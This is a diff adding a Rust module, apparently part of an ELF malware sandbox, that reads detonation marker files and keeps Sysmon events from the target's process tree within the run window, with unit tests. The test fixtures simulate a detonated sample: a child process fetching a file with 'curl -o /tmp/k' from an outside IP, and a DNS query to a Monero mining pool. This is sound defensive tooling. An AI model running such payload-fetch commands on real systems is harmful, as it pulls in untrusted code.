@@ -0,0 +1,346 @@
+use std::{collections::HashSet, fs};
+
+use anyhow::{bail, Context, Result};
+use chrono::{DateTime, FixedOffset, Utc};
+use common::*;
+use uuid::Uuid;
+
+use crate::{syslog::SyslogEntry, sysmon::SysmonEventData};
+
+// written by the sandbox when the target is launched
+#[derive(Debug, Clone)]
+pub struct Detonation {
+    pub run_id: String,
+    pub started_at: DateTime<FixedOffset>,
+    pub ended_at: Option<DateTime<FixedOffset>>, // None while the target is running
+    pub target_name: Option<String>,             // not recorded by older sandboxes
+    pub profile: Option<String>,
+}
+
+impl Detonation {
+    pub fn from_file(path: &str) -> Result<Self> {
+        let text = fs::read_to_string(path)?;
+        let value = |key: &str| {
+            text.lines()
+                .filter_map(|l| l.split_once('='))
+                .find(|(k, _)| k.trim() == key)
+                .map(|(_, v)| v.trim().to_string())
+                .with_context(|| format!("No {} in detonation marker", key))
+        };
+
+        let started_at = parse_unix_time(&value(STARTED_AT_MARKER)?)?;
+        let ended_at = match value(ENDED_AT_MARKER) {
+            Ok(ended_at) => Some(parse_unix_time(&ended_at)?),
+            Err(_) => None,
+        };
+
+        if ended_at.is_some_and(|ended_at| started_at > ended_at) {
+            bail!("Detonation ended before it started");
+        }
+
+        return Ok(Self {
+            run_id: value(RUN_ID_MARKER)?,
+            started_at,
+            ended_at,
+            target_name: value(TARGET_NAME_MARKER).ok(),
+            profile: value(PROFILE_MARKER).ok(),
+        });
+    }
+}
+
+// "<seconds>.<fraction>" since the unix epoch
+pub fn parse_unix_time(value: &str) -> Result<DateTime<FixedOffset>> {
+    let (secs, nanos) = value.split_once('.').unwrap_or((value, "0"));
+    let secs: i64 = secs.parse().context("Invalid unix time")?;
+    let nanos: u32 = format!("{:0<9}", nanos)[..9]
+        .parse()
+        .context("Invalid unix time")?;
+
+    return DateTime::<Utc>::from_timestamp(secs, nanos)
+        .map(|t| t.fixed_offset())
+        .context("Unix time out of range");
+}
+
+// keeps the events of the target's process subtree within the detonation window
+#[derive(Debug)]
+pub struct Scope {
+    detonation: Detonation,
+    launcher_marker: String,
+    target_image_suffix: String,
+    launchers: HashSet<Uuid>,
+    processes: HashSet<Uuid>,
+}
+
+impl Scope {
+    pub fn new(detonation: Detonation) -> Self {
+        return Self {
+            launcher_marker: format!("{}={}", RUN_ID_MARKER, detonation.run_id),
+            target_image_suffix: format!("/root/{}", TARGET_FILE_NAME),
+            detonation,
+            launchers: HashSet::new(),
+            processes: HashSet::new(),
+        };
+    }
+
+    // entries must be passed in log order, the subtree grows with every process creation
+    pub fn contains(&mut self, e: &SyslogEntry) -> bool {
+        let time = e.sysmon_event.time_created;
+
+        if time < self.detonation.started_at
+            || self
+                .detonation
+                .ended_at
+                .is_some_and(|ended_at| time > ended_at)
+        {
+            return false;
+        }
+
+        if let SysmonEventData::ProcessCreate(p) = &e.sysmon_event.data {
+            // the launcher shell itself belongs to the sandbox, only its children are the target
+            if p.command_line
+                .as_deref()
+                .is_some_and(|c| c.contains(&self.launcher_marker))
+            {
+                self.launchers.insert(p.process_guid);
+                return false;
+            }
+
+            let is_target = p
+                .image
+                .as_deref()
+                .is_some_and(|i| i.ends_with(&self.target_image_suffix));
+            let is_descendant = p
+                .parent_process_guid
+                .is_some_and(|g| self.launchers.contains(&g) || self.processes.contains(&g));
+
+            if is_target || is_descendant {
+                self.processes.insert(p.process_guid);
+                return true;
+            }
+
+            return false;
+        }
+
+        return match e.sysmon_event.data.process_guid() {
+            Some(guid) => self.processes.contains(&guid),
+            None => false,
+        };
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::{env, process};
+
+    use super::*;
+    use crate::{rule::tests::sysmon_entry, sysmon::SysmonEventId};
+
+    const RUN_ID: &str = "0b1c9a9e-2f4d-4c8e-9a51-6f1f4e0a7d21";
+    const LAUNCHER: &str = "{5bd6ab47-0001-64d4-0000-000000000000}";
+    const TARGET: &str = "{5bd6ab47-0002-64d4-0000-000000000000}";
+    const CHILD: &str = "{5bd6ab47-0003-64d4-0000-000000000000}";
+    const OTHER: &str = "{5bd6ab47-0004-64d4-0000-000000000000}";
+
+    fn detonation(ended_at: Option<&str>) -> Detonation {
+        return Detonation {
+            run_id: RUN_ID.to_string(),
+            started_at: parse_unix_time("1691668800.000000000").unwrap(),
+            ended_at: ended_at.map(|t| parse_unix_time(t).unwrap()),
+            target_name: Some("sample.elf".to_string()),
+            profile: None,
+        };
+    }
+
+    fn process_create(
+        utc_time: &str,
+        guid: &str,
+        parent_guid: &str,
+        image: &str,
+        command_line: &str,
+    ) -> SyslogEntry {
+        return sysmon_entry(
+            SysmonEventId::PROCESS_CREATE,
+            &[
+                ("RuleName", "-"),
+                ("UtcTime", utc_time),
+                ("ProcessGuid", guid),
+                ("ProcessId", "100"),
+                ("Image", image),
+                ("CommandLine", command_line),
+                ("CurrentDirectory", "/root"),
+                ("User", "root"),
+                ("LogonGuid", "{5bd6ab47-0000-64d4-0000-000000000000}"),
+                ("LogonId", "0"),
+                ("Hashes", "-"),
+                ("ParentProcessGuid", parent_guid),
+                ("ParentProcessId", "1"),
+                ("ParentImage", "-"),
+                ("ParentCommandLine", "-"),
+            ],
+        );
+    }
+
+    fn dns_query(guid: &str) -> SyslogEntry {
+        return sysmon_entry(
+            SysmonEventId::DNS_QUERY,
+            &[
+                ("RuleName", "-"),
+                ("UtcTime", "2023-08-10 12:00:03.000"),
+                ("ProcessGuid", guid),
+                ("ProcessId", "101"),
+                ("QueryName", "pool.minexmr.com"),
+                ("QueryStatus", "0"),
+                ("QueryResults", "::ffff:198.51.100.7;"),
+                ("Image", "/usr/bin/curl"),
+                ("User", "root"),
+            ],
+        );
+    }
+
+    fn launcher() -> SyslogEntry {
+        return process_create(
+            "2023-08-10 12:00:01.000",
+            LAUNCHER,
+            "{5bd6ab47-0000-64d4-0000-000000000000}",
+            "/usr/bin/bash",
+            &format!(
+                "bash -c cd /root && ELF_SANDBOX_RUN={} ./target.bin; : elf-sandbox-run={}",
+                RUN_ID, RUN_ID
+            ),
+        );
+    }
+
+    #[test]
+    fn read_detonation_marker() {
+        let path = env::temp_dir().join(format!("elf-sandbox-detonation-{}", process::id()));
+        fs::write(
+            &path,
+            format!(
+                "elf-sandbox-run={}\nstarted_at=1691668800.5\ntarget_name=sample.elf\ntarget_sha256=abcd\nprofile=ef01\nended_at=1691668860.250000000\n",
+                RUN_ID
+            ),
+        )
+        .unwrap();
+        let detonation = Detonation::from_file(path.to_str().unwrap()).unwrap();
+
+        assert_eq!(detonation.run_id, RUN_ID);
+        assert_eq!(detonation.started_at.timestamp_millis(), 1691668800500);
+        assert_eq!(
+            detonation.ended_at.map(|t| t.timestamp_millis()),
+            Some(1691668860250)
+        );
+        assert_eq!(detonation.target_name.as_deref(), Some("sample.elf"));
+        assert_eq!(detonation.profile.as_deref(), Some("ef01"));
+
+        // still running, written by an older sandbox
+        fs::write(
+            &path,
+            format!("elf-sandbox-run={}\nstarted_at=1691668800.5\n", RUN_ID),
+        )
+        .unwrap();
+        let detonation = Detonation::from_file(path.to_str().unwrap()).unwrap();
+
+        assert_eq!(detonation.ended_at, None);
+        assert_eq!(detonation.target_name, None);
+
+        fs::write(
+            &path,
+            format!(
+                "elf-sandbox-run={}\nstarted_at=1691668860\nended_at=1691668800\n",
+                RUN_ID
+            ),
+        )
+        .unwrap();
+
+        assert_eq!(
+            Detonation::from_file(path.to_str().unwrap())
+                .unwrap_err()
+                .to_string(),
+            "Detonation ended before it started"
+        );
+
+        fs::remove_file(&path).unwrap();
+    }
+
+    #[test]
+    fn unix_times() {
+        assert_eq!(
+            parse_unix_time("1691668800.123456789")
+                .unwrap()
+                .timestamp_nanos_opt(),
+            Some(1691668800123456789)
+        );
+        assert_eq!(
+            parse_unix_time("1691668800").unwrap().timestamp(),
+            1691668800
+        );
+        assert!(parse_unix_time("1691668800.x").is_err());
+        assert!(parse_unix_time("-").is_err());
+    }
+
+    #[test]
+    fn follow_target_subtree() {
+        let mut scope = Scope::new(detonation(None));
+        let target = process_create(
+            "2023-08-10 12:00:01.100",
+            TARGET,
+            LAUNCHER,
+            "/root/target.bin",
+            "./target.bin",
+        );
+        let child = process_create(
+            "2023-08-10 12:00:02.000",
+            CHILD,
+            TARGET,
+            "/usr/bin/curl",
+            "curl -o /tmp/k http://198.51.100.7/k",
+        );
+        let other = process_create(
+            "2023-08-10 12:00:02.000",
+            OTHER,
+            "{5bd6ab47-0000-64d4-0000-000000000000}",
+            "/usr/sbin/cron",
+            "/usr/sbin/cron -f",
+        );
+
+        assert!(!scope.contains(&launcher()));
+        assert!(scope.contains(&target));
+        assert!(scope.contains(&child));
+        assert!(!scope.contains(&other));
+        assert!(scope.contains(&dns_query(CHILD)));
+        assert!(!scope.contains(&dns_query(OTHER)));
+    }
+
+    #[test]
+    fn keep_detonation_window() {
+        let mut scope = Scope::new(detonation(Some("1691668802.500")));
+        let before = process_create(
+            "2023-08-10 11:59:59.000",
+            TARGET,
+            "{5bd6ab47-0000-64d4-0000-000000000000}",
+            "/root/target.bin",
+            "./target.bin",
+        );
+
+        assert!(!scope.contains(&before));
+
+        // the target is recognised by its image without its launcher
+        let target = process_create(
+            "2023-08-10 12:00:01.100",
+            TARGET,
+            "{5bd6ab47-0000-64d4-0000-000000000000}",
+            "/root/target.bin",
+            "./target.bin",
+        );
+        let after = process_create(
+            "2023-08-10 12:00:03.000",
+            CHILD,
+            TARGET,
+            "/usr/bin/curl",
+            "curl -o /tmp/k http://198.51.100.7/k",
+        );
+
+        assert!(scope.contains(&target));
+        assert!(!scope.contains(&after));
+    }
+}